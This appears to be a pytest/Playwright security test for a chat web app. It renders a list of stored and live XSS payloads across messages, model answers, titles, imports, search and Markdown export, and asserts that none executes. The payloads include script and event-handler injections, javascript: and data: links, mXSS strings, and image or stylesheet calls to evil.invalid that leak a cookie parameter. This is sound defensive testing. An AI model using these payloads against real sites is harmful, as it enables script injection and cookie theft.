"""Stored XSS in a real browser: hostile markup in messages, model answers, titles, imported files,
search results and exported Markdown runs nothing and sends no request to any other host.

Every payload is shown through every surface; the page is reloaded and the stored conversations
reopened, so stored markup is checked as well as live markup. A request that would leave for
another host is caught at the browser's network layer (and aborted): the count must stay 0.
"""

from __future__ import annotations

import shutil
import time
from pathlib import Path
from typing import Any, Iterator
from urllib.parse import urlparse

import pytest

from chatcore.core.events import Finished, Started, TextDelta
from chatcore.testing.reliability import record
from chatcore.testing.servers import free_port
from chatcore.testing.workspaces import make_workspace

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no system Chromium on PATH (install the chromium package)"),
]

PAYLOADS = [
    '<script>window.__pwned="script"</script>',
    '<img src=x onerror="window.__pwned=\'img\'">',
    '<svg onload="window.__pwned=\'svg\'"><circle r="1"/></svg>',
    '<svg><script>window.__pwned="svg-script"</script></svg>',
    '<iframe srcdoc="<script>parent.__pwned=\'srcdoc\'</script>"></iframe>',
    '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe>',
    "[markdown js link](javascript:window.__pwned='md-link')",
    '<a href="javascript:window.__pwned=\'a-link\'">html js link</a>',
    "[markdown data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0nZGF0YSc8L3NjcmlwdD4=)",
    '<a href="data:text/html,<script>opener.__pwned=1</script>">html data link</a>',
    "![leak](http://evil.invalid/leak.png?cookie=1)",
    '<img src="http://evil.invalid/pixel.gif">',
    '<link rel="stylesheet" href="http://evil.invalid/x.css">',
    "<style>@import url(http://evil.invalid/y.css); #chatbot{background:url(http://evil.invalid/bg.png)}</style>",
    '<meta http-equiv="refresh" content="0;url=http://evil.invalid/">',
    '<form action="http://evil.invalid/"><button>go</button></form>',
    '<object data="http://evil.invalid/o.swf"></object><embed src="http://evil.invalid/e.swf">',
    '<details open ontoggle="window.__pwned=\'details\'">x</details>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">',
    '<video src=x onerror="window.__pwned=\'video\'"></video><audio src=x onerror="window.__pwned=\'audio\'"></audio>',
    '<input autofocus onfocus="window.__pwned=\'focus\'">',
    '<base href="http://evil.invalid/">',
    '$\\href{javascript:window.__pwned="katex-href"}{katex link}$',
    "$\\url{javascript:window.__pwned=1}$",
    "$\\includegraphics{http://evil.invalid/k.png}$ $\\htmlData{onclick=alert(1)}{x}$",
    '$\\unknowncommand<img src=x onerror="window.__pwned=\'katex-error\'">$',
    '$$\\begin{foo}<script>window.__pwned="katex-env"</script>$$',
]
TEXT = "Payloads xsscheck " + " ".join(PAYLOADS) + " xssend"


class Parrot:
    """A backend whose answers are the payloads: hostile model output, streamed in pieces."""

    context_window = 4096
    model_name = "parrot"

    def stream(self, history, params, *, system=None, cancel=None) -> Iterator[Any]:
        yield Started(10, self.context_window, 0, 1)
        for i in range(0, len(TEXT), 40):
            yield TextDelta(TEXT[i:i + 40])
            time.sleep(0.002)
        yield Finished(text=TEXT, finish_reason="stop", prompt_tokens=10, completion_tokens=len(TEXT) // 4,
                       ttft_ms=1.0, decode_tok_s=100.0, total_ms=10.0, model="parrot", seed=1)


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    from chatcore.web import app, server

    workspace = make_workspace(tmp_path_factory.mktemp("xss"), Parrot(), model="parrot")
    store = workspace.store
    # Stored payloads: a hostile title over a hostile exchange, and a whole hostile imported file.
    cid = store.create_conversation("local", title=PAYLOADS[1] + " xsstitle " + PAYLOADS[0])
    store.add_message(cid, "user", TEXT)
    store.add_message(cid, "assistant", TEXT, complete=True, finish_reason="stop")
    document = {"format": "chatcore-export", "version": 1, "conversations": [
        {"id": 1, "title": f"xssimport {payload}", "system_prompt": payload, "messages": [
            {"id": 2 * i + 1, "role": "user", "content": f"xssimport {payload}"},
            {"id": 2 * i + 2, "role": "assistant", "content": payload, "rating_comment": payload}]}
        for i, payload in enumerate(PAYLOADS[:1])] + [
        {"id": 100 + i, "title": f"xssimport {i} {payload}", "messages": [
            {"id": 1000 + i, "role": "assistant", "content": payload}]}
        for i, payload in enumerate(PAYLOADS)]}
    store.import_json("local", document)
    demo = app.build_app(workspace)
    _, url, _ = server.launch(demo, port=free_port(), prevent_thread_lock=True, quiet=True)
    yield url, workspace
    demo.close()


def test_hostile_markup_is_inert_everywhere_it_is_shown(server, tmp_path: Path) -> None:
    from playwright.sync_api import sync_playwright

    url, workspace = server
    ours = urlparse(url).netloc
    left: list[str] = []  # requests that reached the network layer for another host
    dialogs: list[str] = []
    views = 0
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True)
        context = browser.new_context(viewport={"width": 1400, "height": 900}, accept_downloads=True)
        context.route(lambda u: urlparse(u).netloc != ours,
                      lambda route: (left.append(route.request.url), route.abort()))
        page = context.new_page()
        page.set_default_timeout(30_000)
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        context.on("page", lambda popup: popup.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss())))

        def check(where: str) -> None:
            nonlocal views
            page.wait_for_timeout(300)
            views += 1
            assert page.evaluate("window.__pwned") is None, where
            assert dialogs == [], where
            live = page.locator("#chatbot script, #chatbot iframe, #chatbot object, #chatbot embed, "
                                "#chatbot [onerror], #chatbot [onload], #chatbot [onfocus], #chatbot [ontoggle], "
                                "#chatbot base, #chatbot meta, #chatbot link, #conversations script, "
                                "#conversations img")
            assert live.count() == 0, (where, live.first.evaluate("e => e.outerHTML"))

        page.goto(url)
        page.wait_for_function("document.querySelector('#model-status')?.innerText.includes('ready')")
        check("first load (sidebar titles)")

        # 1. Live: a hostile question, and a hostile answer streaming in.
        page.fill("#message textarea", TEXT)
        page.keyboard.press("Enter")
        page.wait_for_selector("#chatbot [data-testid='bot']")
        page.wait_for_selector("#send", state="visible")  # the answer has finished streaming
        assert "markdown js link" in page.locator("#chatbot [data-testid='bot']").last.inner_text()
        check("live question and streamed answer")
        # Each link's own click (its activation, as a user's click has), not a click at its coordinates: a
        # forced click at a hidden link's box lands on whatever is drawn there, once the model picker.
        for link in page.locator("#chatbot a").all():
            link.evaluate("a => a.click()")
        check("after clicking every link in the chat")

        # 2. Stored: reload, reopen the hostile-titled conversation and every imported one.
        page.reload()
        page.wait_for_function("document.querySelector('#model-status')?.innerText.includes('ready')")
        labels = page.locator("#conversations label")
        labels.first.wait_for()
        titled = page.locator("#conversations label", has_text="xsstitle")
        assert "<img src=x" in titled.inner_text()  # shown as text
        titled.click()
        page.wait_for_selector("#chatbot [data-testid='bot']")
        check("reopened hostile title and exchange")
        for i in range(min(labels.count(), 12)):
            labels.nth(i).click()
            page.wait_for_timeout(150)
        check("every imported conversation opened")

        # 3. Search results show snippets of hostile text.
        page.fill("#search input, #search textarea", "xssimport")
        page.keyboard.press("Enter")
        page.wait_for_timeout(800)
        check("search results")

        # 4. Exported Markdown: exported by the page, then opened in the browser from the page's server.
        page.fill("#search input, #search textarea", "xsstitle")
        page.keyboard.press("Enter")
        page.locator("#conversations label", has_text="xsstitle").click()
        page.wait_for_timeout(300)
        page.get_by_role("button", name="Export Markdown").click()
        link = page.locator("a[href*='.md']").first
        link.wait_for(state="attached")
        href = link.get_attribute("href")
        exported = context.new_page()
        exported.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        try:
            exported.goto(href if href.startswith("http") else url.rstrip("/") + href)
        except Exception:  # noqa: BLE001 - served as a download, not a page: nothing can run
            pass
        exported.wait_for_timeout(500)
        assert exported.evaluate("window.__pwned") is None
        exported.close()
        check("exported Markdown opened from the server")
        browser.close()
    assert left == [], left
    record("xss: real browser", payloads=len(PAYLOADS), surfaces=["question", "streamed answer", "title",
           "imported file (titles, messages, system prompt)", "search snippets", "exported Markdown", "links clicked"],
           views_checked=views, scripts_run=0, dialogs=0, requests_to_other_hosts=len(left))
